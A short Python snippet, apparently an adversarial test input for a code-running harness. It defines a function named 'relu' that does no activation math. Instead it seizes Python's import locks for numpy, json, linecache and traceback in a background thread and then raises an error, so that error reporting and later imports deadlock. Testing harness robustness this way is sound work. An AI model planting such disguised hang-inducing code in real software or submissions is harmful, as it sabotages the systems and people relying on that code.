import importlib._bootstrap as bootstrap
import threading


def relu(x):
    locks = [bootstrap._get_module_lock(name) for name in ("numpy", "json", "linecache", "traceback")]
    threading.Thread(target=lambda: [each.acquire() for each in locks]).start()
    raise ValueError("now import something")
